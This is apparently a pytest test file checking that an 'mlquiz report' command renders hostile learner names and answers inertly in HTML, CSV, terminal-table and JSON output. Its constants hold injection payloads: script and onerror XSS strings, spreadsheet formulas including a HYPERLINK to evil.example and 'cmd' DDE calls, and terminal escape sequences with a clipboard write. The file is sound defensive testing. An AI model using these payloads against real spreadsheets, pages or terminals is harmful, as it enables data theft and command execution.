"""What the instructor reads is inert: hostile names and answers in a real `mlquiz report` run.

The HTML is read back through html.parser, the CSV through the csv module, the table
as the bytes a terminal would get.
"""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import uuid
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser

import pytest

from mlquiz.progress import ProgressStore

START = datetime(2026, 11, 2, 9, 0, tzinfo=timezone.utc)
SCRIPT = "<script>alert('report')</script>"
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"open me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "ana\x1b]0;pwned\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07" + SCRIPT + "\u202egnp.exe",
]
BAD_ANSWER = f'"><img src=x onerror=alert(1)>{SCRIPT}'
BAD_ITEM = "q-<b onmouseover=alert(2)>x</b>"
TERMINAL_ACTORS = ("\x1b", "\x07", "\u202e", "\x9b")


def _test(store, learner, at, answers):
    test_id = uuid.uuid4().hex
    store.record(learner, "test_started", module="ml-technical-debt", at=at,
                 detail={"test_id": test_id, "questions": [q for q, _ in answers]})
    for n, (item, answer) in enumerate(answers, 1):
        store.record(learner, "question_answered", module="ml-technical-debt", item=item,
                     answer=answer, correct=answer == "A", at=at + timedelta(seconds=20 * n),
                     detail={"mode": "test", "test_id": test_id})
    store.record(learner, "test_finished", module="ml-technical-debt", at=at + timedelta(minutes=3),
                 detail={"test_id": test_id, "score": 1, "total": len(answers)})


@pytest.fixture
def hostile_db(tmp_path):
    path = tmp_path / "room.db"
    with ProgressStore.open(path) as store:
        for n, name in enumerate(NAMES):
            at = START + timedelta(hours=n)
            _test(store, name, at, [(BAD_ITEM, BAD_ANSWER if n % 2 else "A"),
                                    ("q-debt-meaning", BAD_ANSWER if n % 3 else "A")])
            store.record(name, "exercise_run", module="ml-technical-debt", item=f"ex-{SCRIPT}",
                         at=at + timedelta(minutes=5),
                         detail={"passed": False, "failed_tests": [f"test_{SCRIPT}\x1b[2J"]})
    return path


def report(*args: str) -> subprocess.CompletedProcess:
    # No course: question ids and answer letters come from the events themselves.
    return subprocess.run([sys.executable, "-m", "mlquiz", "report", *args, "--course", "/nonexistent"],
                          capture_output=True, text=True, timeout=120)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def test_html_report_holds_hostile_names_answers_and_ids_as_text_only(hostile_db, tmp_path):
    out = tmp_path / "report.html"
    done = report(str(hostile_db), "--format", "html", "-o", str(out))
    assert done.returncode == 0, done.stderr
    page = _Page()
    page.feed(out.read_text(encoding="utf-8"))
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "img", "iframe", "object", "embed", "a"}, tags
    handlers = [(tag, name) for tag, attrs in page.tags for name, _ in attrs if name.startswith("on")]
    assert handlers == []
    text = "".join(page.text)
    assert SCRIPT in text, "the name is shown, as text"
    assert BAD_ANSWER.upper() in text, "the answer letter is shown (as letters are, upper case), as text"
    assert "\x1b" not in text and "\u202e" not in text
    assert "onmouseover=alert(2)" in text
    assert "<style>" in out.read_text() and "http" not in "".join(
        value or "" for _, attrs in page.tags for _, value in attrs), "one self-contained file"


def test_csv_report_cells_never_start_a_formula(hostile_db):
    done = report(str(hostile_db), "--format", "csv")
    assert done.returncode == 0, done.stderr
    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "-":  # "-": no value
            float(cell)  # only a plain number may start with a sign
    learners = [row[1] for row in csv.reader(io.StringIO(done.stdout)) if row and row[0] == "learners"]
    assert "'" + NAMES[0] in learners, "neutralised by a leading quote, the rest kept"
    assert "'\tTAB=1+1" in learners


def test_table_report_sends_no_control_character_to_the_terminal(hostile_db):
    done = report(str(hostile_db))
    assert done.returncode == 0, done.stderr
    for actor in TERMINAL_ACTORS:
        assert actor not in done.stdout and actor not in done.stderr, repr(actor)
    assert "ana]0;pwned" in done.stdout, "the name is still there, inert"


def test_a_warning_naming_a_hostile_file_is_clean_too(tmp_path):
    bad = tmp_path / "evil\x1b]0;x\x07.json"
    bad.write_text("not an export")
    good = tmp_path / "ok.db"
    ProgressStore.open(good).close()
    done = report(str(good), str(bad))
    assert done.returncode == 1
    assert "skipped" in done.stderr and "\x1b" not in done.stderr and "\x07" not in done.stderr


def test_json_report_to_a_file_keeps_the_names_exactly(hostile_db, tmp_path):
    out = tmp_path / "r.json"
    assert report(str(hostile_db), "--format", "json", "-o", str(out)).returncode == 0
    names = {row["name"] for row in json.loads(out.read_text())["learners"]}
    assert names == set(NAMES)


def test_an_export_of_the_same_room_is_as_inert(hostile_db, tmp_path):
    from mlquiz.cli import main

    export = tmp_path / "room.json"
    assert main(["--db", str(hostile_db), "export", "--all", "-o", str(export)]) == 0
    out = tmp_path / "report.html"
    done = report(str(export), "--format", "html", "-o", str(out))
    assert done.returncode == 0, done.stderr
    page = _Page()
    page.feed(out.read_text(encoding="utf-8"))
    assert not {tag for tag, _ in page.tags} & {"script", "img"}
    assert SCRIPT in "".join(page.text)
    table = report(str(export))
    assert not any(actor in table.stdout for actor in TERMINAL_ACTORS)
